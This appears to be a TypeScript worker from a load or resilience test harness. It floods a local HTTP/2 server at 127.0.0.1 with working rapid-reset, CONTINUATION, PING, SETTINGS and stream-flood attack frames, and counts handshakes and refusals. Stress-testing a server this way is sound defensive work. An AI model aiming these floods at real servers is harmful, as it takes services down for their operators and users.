/** Floods from a thread of its own, so that whoever measures is not held up by it: connects, does its worst until it is thrown out, comes back. */
import tls from "node:tls";
import { parentPort, workerData } from "node:worker_threads";

export interface Flood {
  readonly kind: keyof typeof FLOODS;
  readonly port: number;
  readonly connections: number;
  /** Of the n-th connection. */
  readonly addresses: readonly string[];
  readonly seconds: number;
}

export interface Flooded {
  readonly handshakes: number;
  readonly refused: number;
  readonly mebibytes: number;
}

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const TYPE = { headers: 1, reset: 3, settings: 4, ping: 6, continuation: 9 } as const;
const END_STREAM_AND_HEADERS = 0x5;
const RESET_PAIRS = 500;
const FRAMES = 500;
const CONTINUATION_BYTES = 16_000;
const COME_BACK_MS = 5;

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** RFC 7541 §6.2.2: each field in full. */
function fields(...pairs: readonly (readonly [string, string])[]): Buffer {
  const text = (value: string): Buffer => Buffer.concat([Buffer.from([value.length]), Buffer.from(value, "latin1")]);
  return Buffer.concat(pairs.flatMap(([name, value]) => [Buffer.from([0]), text(name), text(value)]));
}

const REQUEST = fields([":method", "GET"], [":scheme", "https"], [":path", "/rest/v1/notes"], [":authority", "localhost"]);
const NOTHING = Buffer.alloc(0);
const CANCEL = Buffer.from([0, 0, 0, 8]);

/** What is written each time that the socket takes more; `round` counts from 0 for each connection. */
const FLOODS = {
  "rapid reset": (round: number): Buffer =>
    Buffer.concat(
      Array.from({ length: RESET_PAIRS }, (_, at) => {
        const stream = (round * RESET_PAIRS + at) * 2 + 1;
        return Buffer.concat([frame(TYPE.headers, END_STREAM_AND_HEADERS, stream, REQUEST), frame(TYPE.reset, 0, stream, CANCEL)]);
      }),
    ),
  streams: (round: number): Buffer =>
    Buffer.concat(
      Array.from({ length: RESET_PAIRS }, (_, at) =>
        frame(TYPE.headers, END_STREAM_AND_HEADERS, (round * RESET_PAIRS + at) * 2 + 1, REQUEST),
      ),
    ),
  continuation: (round: number): Buffer =>
    round === 0 ? frame(TYPE.headers, 0, 1, REQUEST) : frame(TYPE.continuation, 0, 1, Buffer.alloc(CONTINUATION_BYTES, 0)),
  ping: (): Buffer => Buffer.concat(Array.from({ length: FRAMES }, () => frame(TYPE.ping, 0, 0, Buffer.alloc(8)))),
  settings: (): Buffer => Buffer.concat(Array.from({ length: FRAMES }, () => frame(TYPE.settings, 0, 0, NOTHING))),
  handshakes: (): undefined => undefined,
} as const satisfies Readonly<Record<string, (round: number) => Buffer | undefined>>;

// Handed over by `flood` in flood.ts alone.
const flood = workerData as Flood;
const endAt = performance.now() + flood.seconds * 1_000;
const told = { handshakes: 0, refused: 0, bytes: 0 };
await Promise.all(
  Array.from({ length: flood.connections }, (_, n) => comeAgainAndAgain(flood.addresses[n % flood.addresses.length] ?? "")),
);
parentPort?.postMessage({ handshakes: told.handshakes, refused: told.refused, mebibytes: told.bytes / 1_048_576 } satisfies Flooded);

async function comeAgainAndAgain(localAddress: string): Promise<void> {
  while (performance.now() < endAt) {
    const isIn = await once(localAddress);
    if (isIn) told.handshakes += 1;
    else told.refused += 1;
    // Who is refused before the handshake could otherwise only be told from a busy loop by his own fan.
    await new Promise((resolve) => setTimeout(resolve, COME_BACK_MS));
  }
}

/** One connection to its end. */
function once(localAddress: string): Promise<boolean> {
  return new Promise((resolve) => {
    let isIn = false;
    let round = 0;
    const { port } = flood;
    const from = { localAddress };
    const socket = tls.connect({
      port,
      host: "127.0.0.1",
      ...from,
      servername: "localhost",
      ALPNProtocols: ["h2"],
      rejectUnauthorized: false,
    });
    const end = setTimeout(() => socket.destroy(), Math.max(0, endAt - performance.now()));
    const write = (): void => {
      while (!socket.destroyed && performance.now() < endAt) {
        const bytes = FLOODS[flood.kind](round);
        if (bytes === undefined) return void socket.end();
        round += 1;
        told.bytes += bytes.length;
        if (!socket.write(bytes)) return;
      }
    };
    socket.on("secureConnect", () => {
      isIn = true;
      socket.write(Buffer.concat([PREFACE, frame(TYPE.settings, 0, 0, NOTHING)]));
      write();
    });
    socket.on("drain", write);
    socket.on("error", () => undefined);
    socket.on("close", () => {
      clearTimeout(end);
      resolve(isIn);
    });
    socket.resume();
  });
}
